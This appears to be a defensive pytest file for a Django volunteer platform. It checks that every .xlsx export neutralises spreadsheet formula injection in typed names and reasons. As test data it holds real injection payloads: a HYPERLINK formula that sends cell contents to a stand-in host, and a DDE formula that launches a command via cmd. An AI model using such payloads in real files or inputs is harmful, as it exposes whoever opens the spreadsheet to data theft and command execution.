"""Formula injection: no text a person typed comes out of any .xlsx as a formula.

Names, skills, reasons and organisation names carrying the classic payloads are imported
through the roster import (or written through the services), then every export the
platform offers is downloaded and every cell of every sheet is read back.
"""

import datetime
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from core.spreadsheets import FORMULA_STARTS, sheet_value
from points.models import Reward
from points.services import points_adjust
from points.services.rewards import reward_redeem
from volunteers.models import Organisation, Person
from volunteers.services.attendance import attendance_remove
from volunteers.services.checkin import attendance_check_in
from volunteers.services.organisations import organisation_add

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"点我")'
DDE = "=cmd|' /C calc'!A0"
AT_SUM = "@SUM(1)"
TAB = "\t=1+1"
PLUS = "+SUM(2)"
PARTY_HEADERS = [
    "姓名",
    "手机号",
    "身份证号(选填)",
    "政治面貌",
    "所属网格",
    "技能特长",
    "加入日期",
    "所在党支部",
    "在职单位",
    "是否在职党员",
]


def neutral(text: str) -> str:
    return "'" + text


def typed_as_text(rows) -> bytes:
    """A roster as Excel keeps what was typed as '=...: string cells, not formulas."""
    workbook = Workbook()
    sheet = workbook.active
    for values in [PARTY_HEADERS, *rows]:
        sheet.append(values)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def cells(content: bytes) -> list[tuple[str, str, object, str]]:
    """(sheet, coordinate, value, data type) of every cell of every sheet."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.coordinate, cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def formulas(content: bytes) -> list[str]:
    return [
        f"{sheet}!{coordinate} = {value!r} ({kind})"
        for sheet, coordinate, value, kind in cells(content)
        if kind == "f" or (isinstance(value, str) and value.startswith(FORMULA_STARTS))
    ]


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def admin(person_with_role, town, Role):
    return person_with_role(Role.ADMIN, town.town, real_name="镇管理员").user


@pytest.fixture
def planted(client, admin, town, make_activity, django_capture_on_commit_callbacks):
    """The payloads in every place an export shows typed text, imported as a secretary would."""
    grid = organisation_add(
        parent=town.liyuan, name=AT_SUM, kind=Organisation.Kind.GRID, code="grid-at"
    )
    unit = organisation_add(parent=town.town, name=DDE, kind=Organisation.Kind.UNIT, code="u-dde")
    rows = [
        [HYPERLINK, "13700000101", "", "中共党员", "grid-at", DDE, "2024-03-01", "", "u-dde", "是"],
        [AT_SUM, "13700000102", "", "中共党员", "grid-at", TAB, "", "", "u-dde", "是"],
        [PLUS, "13700000103", "", "中共党员", "grid-at", HYPERLINK, "", "", "u-dde", "是"],
    ]
    client.force_login(admin)
    upload = io.BytesIO(typed_as_text(rows))
    upload.name = "名册.xlsx"
    preview = client.post("/roster/", {"kind": "party_members", "file": upload})
    assert preview.status_code == 302, preview.content.decode()
    assert client.post(f"{preview['Location']}confirm/").status_code == 302
    people = {p.real_name: p for p in Person.objects.filter(home_grid=grid)}
    assert set(people) == {HYPERLINK, AT_SUM, PLUS}  # stored as typed
    first, second = people[HYPERLINK], people[AT_SUM]

    activity = make_activity(organisation=grid, title="河道清理")
    for person in people.values():
        attendance_check_in(
            activity=activity, person=person, method="manual", at=activity.starts_at, by=admin
        )
    attendance_remove(attendance=second.attendances.get(), reason=HYPERLINK, by=admin)
    points_adjust(person=first, amount=5, category="reward", reason=DDE, by=admin)

    reward = Reward.objects.create(
        community=town.liyuan, name=TAB, price=1, stock=5, per_person_limit=1
    )
    redemption = reward_redeem(reward=reward, person=first, by=admin)

    with django_capture_on_commit_callbacks(execute=True):
        client.post("/me/exports/new/", {"export": "roster", "kind": "party_members"})
        client.post("/me/exports/new/", {"export": "attendance", "activity": activity.pk})
    return {
        "grid": grid,
        "unit": unit,
        "activity": activity,
        "month": timezone.localtime(redemption.created_at).strftime("%Y-%m"),
    }


@pytest.fixture(autouse=True)
def _private(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"


def export_urls(planted) -> dict[str, tuple[str, set[str]]]:
    """URL name → (address, typed texts its file must show, neutralised)."""
    from volunteers.models import ExportJob

    jobs = {job.kind: job.pk for job in ExportJob.objects.all()}
    names = {HYPERLINK, AT_SUM, PLUS}
    return {
        "roster_export": ("/roster/export.xlsx?kind=party_members", {*names, DDE, "=1+1"}),
        "roster_export:volunteers": ("/roster/export.xlsx?kind=volunteers", {*names, AT_SUM}),
        "roster_template": ("/roster/template.xlsx?kind=party_members", {AT_SUM, DDE}),
        "checkin_attendance_xlsx": (
            f"/activities/{planted['activity'].pk}/attendance.xlsx",
            {*names, HYPERLINK},
        ),
        "branch_table_xlsx": (
            f"/points/branch/export.xlsx?org={planted['grid'].pk}",
            {*names, AT_SUM},
        ),
        "dual_report_xlsx": (f"/points/dual-report/export.xlsx?unit={planted['unit'].pk}", names),
        "shop_report_xlsx": (f"/shop/report.xlsx?month={planted['month']}", {HYPERLINK, TAB}),
        "dashboard_xlsx": ("/dashboard/export.xlsx", {DDE}),  # the town's units
        "dashboard_xlsx:community": (
            f"/dashboard/export.xlsx?org={planted['grid'].get_parent().pk}",
            {AT_SUM},  # the community's grids
        ),
        "export_download:roster": (f"/me/exports/{jobs['roster']}/download/", {*names, DDE}),
        "export_download:attendance": (f"/me/exports/{jobs['attendance']}/download/", names),
        # The audit log: the people concerned, the grid, and the reasons typed.
        "audit_log_export": ("/admin/audit-log/export.xlsx", {HYPERLINK, AT_SUM, DDE}),
        # 提升行动's quarterly report: a campaign an admin named like a formula.
        "campaign_report": ("/campaigns/report.xlsx", {PLUS}),
    }


def spreadsheet_routes() -> set[str]:
    """Names of every route of the volunteers and points apps that hands over an .xlsx."""
    found = set()

    def walk(patterns):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns)
            elif isinstance(pattern, URLPattern) and pattern.name:
                route = str(pattern.pattern)
                if "xlsx" in route or pattern.name == "export_download":
                    found.add(pattern.name)

    walk(get_resolver().url_patterns)
    return found


def test_no_export_turns_typed_text_into_a_formula(client, planted, admin):
    from volunteers.models import Campaign

    Campaign.objects.create(name=PLUS)
    urls = export_urls(planted)
    assert spreadsheet_routes() <= {name.split(":")[0] for name in urls}, "an export is untested"

    problems = {}
    for name, (url, typed) in urls.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        content = body(response)
        found = formulas(content)
        values = {value for _s, _c, value, _k in cells(content)}
        missing = {text for text in typed if sheet_value(text) not in values}
        if found or missing:
            problems[name] = {"formulas": found, "not shown neutralised": sorted(missing)}
    assert not problems, problems


def test_numbers_and_dates_stay_numbers_and_dates(client, planted):
    roster = load_workbook(io.BytesIO(client.get("/roster/export.xlsx?kind=volunteers").content))
    joined = [row[6] for row in roster["名册"].iter_rows(min_row=2, values_only=True)]
    assert datetime.datetime(2024, 3, 1) in joined  # noqa: DTZ001 Excel dates are naive

    url = f"/activities/{planted['activity'].pk}/attendance.xlsx"
    attendance = load_workbook(io.BytesIO(client.get(url).content)).active
    first = next(attendance.iter_rows(min_row=2, values_only=True))
    assert isinstance(first[3], datetime.datetime)  # checked in at

    table = load_workbook(
        io.BytesIO(client.get(f"/points/branch/export.xlsx?org={planted['grid'].pk}").content)
    ).active
    totals = {row[0]: row[-2] for row in table.iter_rows(min_row=2, values_only=True)}
    assert totals[neutral(HYPERLINK)] == 5


def test_a_roster_exported_and_imported_again_reads_the_names_as_typed(client, planted, admin):
    from volunteers import roster

    content = client.get("/roster/export.xlsx?kind=party_members").content
    rows = roster.read_roster(io.BytesIO(content), kind="party_members")
    checked = roster.check_rows(rows, kind="party_members", user=admin)
    assert {row["real_name"] for row in checked.bad} >= {HYPERLINK, AT_SUM, PLUS}
